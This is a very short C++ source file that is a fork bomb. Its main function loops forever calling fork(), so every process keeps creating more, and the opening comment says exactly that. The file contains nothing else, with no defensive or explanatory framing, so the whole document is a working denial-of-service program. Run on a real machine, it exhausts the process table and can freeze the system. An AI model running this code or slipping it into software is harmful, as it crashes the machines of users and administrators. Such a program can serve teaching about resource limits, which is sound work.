// Every process makes more processes, for ever.
#include <fmt/core.h>

#include <unistd.h>

int main() {
    for (;;) {
        fork();
    }
}
